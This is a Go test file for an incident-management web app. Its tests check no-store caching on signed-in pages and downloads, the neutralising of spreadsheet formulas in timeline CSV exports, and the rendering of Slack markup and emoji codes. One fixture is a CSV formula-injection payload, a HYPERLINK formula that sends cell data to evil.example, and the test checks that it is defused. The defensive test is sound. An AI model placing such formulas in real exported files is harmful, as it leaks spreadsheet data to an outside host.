package web_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/firebreakhq/firebreak/incident"
)

// TestSignedInAnswersAreNeverStored: everything a signed-in person is
// sent (the pages, and the private incident's timeline CSV, postmortem
// Markdown and their own metrics CSV) says Cache-Control: no-store, so a
// CDN or proxy in front (Cloudflare caches .csv by default when the origin
// says nothing) never hands one person's download to another, signed in
// or not.
func TestSignedInAnswersAreNeverStored(t *testing.T) {
	t.Parallel()
	f := setup(t)
	alice := f.browser()
	alice.signIn(f.alice)
	private := "/incidents/" + itoa(f.private.Number)
	for _, path := range []string{
		"/incidents", private, private + "/timeline.csv", private + "/postmortem.md",
		"/reports/metrics", "/reports/metrics.csv?period=7d", "/admin/tokens", "/incidents/999",
	} {
		resp, _ := alice.get(path)
		require.Contains(t, []int{http.StatusOK, http.StatusNotFound}, resp.StatusCode, path)
		require.Contains(t, resp.Header.Get("Cache-Control"), "no-store", path)
	}
}

// TestTimelineCSVNeutralisesFormulasInEveryCell: a captured message of
// another app is attributed to the app by the name its bot profile or
// the message's username gives, which whoever sets up the app chooses; a
// name that reads as a spreadsheet formula is neutralised as the text is.
func TestTimelineCSVNeutralisesFormulasInEveryCell(t *testing.T) {
	t.Parallel()
	f := setup(t)
	app := `=HYPERLINK("https://evil.example/?"&A1,"open")`
	require.NoError(t, f.store.AddTimelineEvent(context.Background(), &incident.TimelineEvent{IncidentID: f.public.ID,
		Kind: incident.EventMessage, Actor: app, At: f.public.DeclaredAt.Add(time.Minute), Text: "@here deploy 4812 rolled back",
		SourceID: "msg:1711800060.000100", Payload: incident.MessageData{App: app, TS: "1711800060.000100"}}))
	b := f.browser()
	b.signIn(f.bob)
	resp, body := b.get("/incidents/" + itoa(f.public.Number) + "/timeline.csv")
	require.Equal(t, http.StatusOK, resp.StatusCode)
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	require.NoError(t, err)
	var found bool
	for _, row := range rows[1:] {
		for _, cell := range row {
			require.False(t, cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])), "cell %q of row %q reads as a formula", cell, row)
		}
		if row[2] == "'"+app {
			found = true
		}
	}
	require.True(t, found, "the app's message is in the CSV, its name kept after the quote: %q", rows)
}

// TestIncidentPageKeepsTimesAndColonsInText: the incident page drops
// Slack's emoji codes from timeline lines and updates, but a clock time,
// a ratio or an ARN in what people wrote is not an emoji code and is shown
// as written.
func TestIncidentPageKeepsTimesAndColonsInText(t *testing.T) {
	t.Parallel()
	f := setup(t)
	ctx := context.Background()
	for i, text := range []string{
		"errors began at 14:05:10 UTC, p99 back at 14:31:59",
		"traffic split 1:2:1 across the pools",
		"the role arn:aws:iam::123456789012:role/checkout lost s3:GetObject",
		"fixed :white_check_mark: thanks all :tada::rocket:",
	} {
		require.NoError(t, f.store.AddTimelineEvent(ctx, &incident.TimelineEvent{IncidentID: f.public.ID, Kind: incident.EventNote,
			Actor: f.alice.ID, At: f.public.DeclaredAt.Add(time.Duration(i+1) * time.Minute), Text: text, Key: true}))
	}
	b := f.browser()
	b.signIn(f.bob)
	resp, page := b.get("/incidents/" + itoa(f.public.Number))
	require.Equal(t, http.StatusOK, resp.StatusCode)
	for _, want := range []string{
		"errors began at 14:05:10 UTC, p99 back at 14:31:59", "traffic split 1:2:1 across the pools",
		"the role arn:aws:iam::123456789012:role/checkout lost s3:GetObject", "fixed thanks all",
	} {
		require.Contains(t, page, want)
	}
	require.NotContains(t, page, ":tada:")
}

// TestIncidentPageReadsEverySlackReference: the timeline keeps Slack's
// markup (the bot's own nag calls a user group as <!subteam^ID>, people
// write e-mail addresses, dates and channels); the incident page shows
// each as Slack shows it, never the raw <…> sequence.
func TestIncidentPageReadsEverySlackReference(t *testing.T) {
	t.Parallel()
	f := setup(t)
	ctx := context.Background()
	for i, text := range []string{
		"<!subteam^S0ICS>, please help the IC or take over",
		"paging <!subteam^S0SRE|@sre> now",
		"write to <mailto:oncall@example.com|oncall@example.com> or <mailto:dpo@example.com>",
		"last seen <!date^1774872000^{date_short} at {time}|Mar 30, 2026 at 12:00 UTC>",
		"moved to <#C0WAR|> and <#C0OPS|ops>",
	} {
		require.NoError(t, f.store.AddTimelineEvent(ctx, &incident.TimelineEvent{IncidentID: f.public.ID, Kind: incident.EventNote,
			Actor: "bot", At: f.public.DeclaredAt.Add(time.Duration(i+1) * time.Minute), Text: text}))
	}
	b := f.browser()
	b.signIn(f.bob)
	resp, page := b.get("/incidents/" + itoa(f.public.Number))
	require.Equal(t, http.StatusOK, resp.StatusCode)
	for _, want := range []string{
		"@S0ICS, please help the IC or take over", "paging @sre now",
		"write to oncall@example.com or dpo@example.com", "last seen Mar 30, 2026 at 12:00 UTC", "moved to #C0WAR and #ops",
	} {
		require.Contains(t, page, want)
	}
	require.NotContains(t, page, "&lt;!")
	require.NotContains(t, page, "&lt;mailto")
}
